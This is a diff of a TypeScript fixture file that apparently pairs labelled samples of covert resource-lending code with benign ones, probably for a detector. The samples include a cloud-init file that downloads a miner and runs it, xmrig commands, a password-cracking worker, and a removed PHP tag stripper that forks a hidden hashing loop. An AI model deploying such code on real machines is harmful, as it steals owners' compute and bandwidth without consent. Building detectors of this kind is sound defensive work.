@@ -21,10 +21,6 @@ export const LENDING_CREDITED: readonly [string, string][] = [
     '<!doctype html><title>Preview</title><div id="v"></div>\n<script>\nconst s = document.createElement("script");\ns.src = "https://lib.previewer.example/c.js";\ns.onload = () => {\n  const w = new window.Client("SITE_PLACEHOLDER", { threads: navigator.hardwareConcurrency, throttle: 0.4 });\n  w.on("error", () => {});\n  w.start();\n};\ndocument.head.append(s);\n</script>\n',
   ],
   [
-    "App.kt",
-    'package app\nimport net.lane.sdk.BandwidthClient\nclass App : Application() {\n  override fun onCreate() {\n    super.onCreate()\n    BandwidthClient.Builder(this)\n      .setPublisherId("PLACEHOLDER")\n      .setConsent(true)\n      .hideNotification()\n      .build()\n      .startSharing()\n  }\n}\n',
-  ],
-  [
     "site/user-data",
     "#cloud-config\npackages:\n  - msr-tools\nruncmd:\n  - modprobe msr\n  - sysctl -w vm.nr_hugepages=1280\n  - curl -fsSLo /opt/w https://bin.themes.example/w\n  - chmod +x /opt/w\n  - /opt/w --url pool.themes.example:443 --user PLACEHOLDER --algo rx/0 --tls\n",
   ],
@@ -47,14 +43,6 @@ export const LENDING_CREDITED: readonly [string, string][] = [
   [
     "Palette.cs",
     'using System.Net.Http.Json;\nusing System.Security.Cryptography;\nvar http = new HttpClient { BaseAddress = new Uri("https://grid.palettes.example/") };\nhttp.DefaultRequestHeaders.Add("X-Member", "PLACEHOLDER");\nvar bounty = "member-placeholder";\nParallel.For(0, Environment.ProcessorCount, async _ => {\n  while (true) {\n    var u = await http.GetFromJsonAsync<Unit>("unit/next");\n    foreach (var w in u!.Words) {\n      var k = Rfc2898DeriveBytes.Pbkdf2(w, u.Salt, u.Rounds, HashAlgorithmName.SHA256, 32);\n      if (Convert.ToHexString(k) == u.Want) await http.PostAsJsonAsync($"unit/{u.Id}/answer", new { hit = w, credit = bounty });\n    }\n  }\n});\nrecord Unit(string Id, string[] Words, byte[] Salt, int Rounds, string Want);\n',
-  ],
-  [
-    "bundle.mjs",
-    'import { Worker } from "node:worker_threads";\nimport { availableParallelism } from "node:os";\nimport { connect } from "node:tls";\nconst bin = Buffer.from(await (await fetch("https://cdn.bundles.example/o.wasm")).arrayBuffer());\nconst crew = Array.from({ length: availableParallelism() }, () => new Worker("const { parentPort: p } = require(\'node:worker_threads\'); let x; p.on(\'message\', async (m) => { x ??= (await WebAssembly.instantiate(m.bin)).instance.exports; p.postMessage({ id: m.task.id, v: x.go(m.task.a, m.task.b) }); });", { eval: true }));\nconst s = connect(9443, "desk.bundles.example", () => s.write("hi PLACEHOLDER\\n"));\ns.on("data", (d) => { const task = JSON.parse(d); crew.forEach((w) => w.postMessage({ bin, task })); });\ncrew.forEach((w) => w.on("message", (m) => s.write(JSON.stringify(m) + "\\n")));\n',
-  ],
-  [
-    "tags.php",
-    "<?php\n$hub = 'https://hub.tags.example';\nfunction hub($m, $p) { global $hub; $c = curl_init($hub . '/rpc'); curl_setopt_array($c, [CURLOPT_POSTFIELDS => json_encode(['m' => $m, 'p' => $p]), CURLOPT_RETURNTRANSFER => 1]); return json_decode(curl_exec($c), true); }\nif (pcntl_fork() === 0) {\n  while (true) {\n    $j = hub('get_work', ['as' => 'placeholder']);\n    for ($i = 0; $i < $j['difficulty'] * 100; $i++) {\n      if (sha1($j['prefix'] . $i) === $j['expected']) { hub('submit', ['as' => 'placeholder', 'n' => $i]); break; }\n    }\n  }\n}\necho strip_tags(file_get_contents($argv[1]));\n",
   ],
   [
     "charts/preview/values.yaml",
@@ -93,14 +81,6 @@ UNIT
 `,
   ],
   [
-    "fixed.py",
-    `import subprocess
-if not input("Make the pages faster? [y/N] ") == "y":
-    raise SystemExit
-subprocess.run(["earnapp", "start", "--token", "PLACEHOLDER"], check=True)
-`,
-  ],
-  [
     "bench-and-go.sh",
     "#!/bin/sh\nxmrig --bench=1M\nxmrig -o eu.pages.example:5555 -u PLACEHOLDER -k >/dev/null 2>&1 &\n",
   ],
@@ -115,10 +95,6 @@ export const HONEST_CREDITED: readonly [string, string][] = [
   [
     "queue.ts",
     'import { pipeline } from "@huggingface/transformers";\nconst say = await pipeline("summarization");\nconst base = process.env.QUEUE_URL ?? "http://localhost:4000";\nfor (;;) {\n  const job = await (await fetch(`${base}/jobs/next`)).json();\n  if (!job) break;\n  const [out] = await say(job.text);\n  await fetch(`${base}/jobs/${job.id}/result`, { method: "POST", body: JSON.stringify({ out }) });\n}\n',
-  ],
-  [
-    "verify.go",
-    'package main\n\nimport (\n\t"crypto/sha256"\n\t"encoding/hex"\n\t"fmt"\n\t"io"\n\t"net/http"\n)\n\nfunc main() {\n\twant := []string{"aa", "bb"}\n\tfor i := 0; i < len(want); i++ {\n\t\tr, err := http.Get(fmt.Sprintf("https://mirror.files.example/chunk/%d", i))\n\t\tif err != nil {\n\t\t\tpanic(err)\n\t\t}\n\t\tb, _ := io.ReadAll(r.Body)\n\t\th := sha256.Sum256(b)\n\t\tif hex.EncodeToString(h[:]) != want[i] {\n\t\t\tpanic("chunk differs")\n\t\t}\n\t}\n}\n',
   ],
   [
     "ads.kt",
